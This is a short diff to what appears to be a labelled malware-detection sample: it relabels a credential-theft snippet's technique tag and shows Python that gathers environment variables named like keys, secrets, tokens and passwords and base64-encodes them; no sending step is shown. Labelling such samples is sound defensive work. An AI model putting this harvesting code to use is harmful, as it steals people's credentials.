@@ -1,4 +1,4 @@
-# label: malicious family=creds techniques=T1552.001,T1041 lines=3,5
+# label: malicious family=creds techniques=T1552.001,T1567 lines=3,5
 import os, json, base64, urllib.request
 keys = {k: v for k, v in os.environ.items() if any(w in k for w in ("KEY", "SECRET", "TOKEN", "PASSWORD", "CREDENTIAL"))}
 blob = base64.b64encode(json.dumps(keys).encode())
